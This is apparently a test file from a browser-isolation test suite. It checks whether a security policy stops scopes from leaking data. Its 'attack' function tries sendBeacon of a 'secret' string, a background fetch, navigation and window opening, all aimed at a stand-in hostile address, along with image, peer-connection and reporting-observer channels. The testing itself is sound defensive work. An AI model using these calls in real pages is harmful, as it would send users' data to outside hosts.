# promise: P2
# defence: policy
# control: none because no worker has sendBeacon, and a report has nowhere to go without a policy that names one
# without depth: held | failed crashed
from reach import each_scope, linger

ADDRESS = "http://beacon.hostile.invalid/"


def attack(scope):
    yield "sendBeacon", lambda: scope.navigator.sendBeacon(ADDRESS, "secret")
    yield "a reporting observer", lambda: scope.ReportingObserver.new(lambda *_: None).observe()
    yield "an image", lambda: scope.Image.new()
    yield "a peer connection", lambda: scope.RTCPeerConnection.new()
    yield "a background fetch", lambda: scope.registration.backgroundFetch.fetch("x", ADDRESS)
    yield "a link", lambda: scope.document.createElement("a").click()
    yield "a navigation", lambda: setattr(scope.location, "href", ADDRESS) or scope.location.href == ADDRESS
    yield "an opened window", lambda: scope.open(ADDRESS)


each_scope(attack)
linger()
print("held")
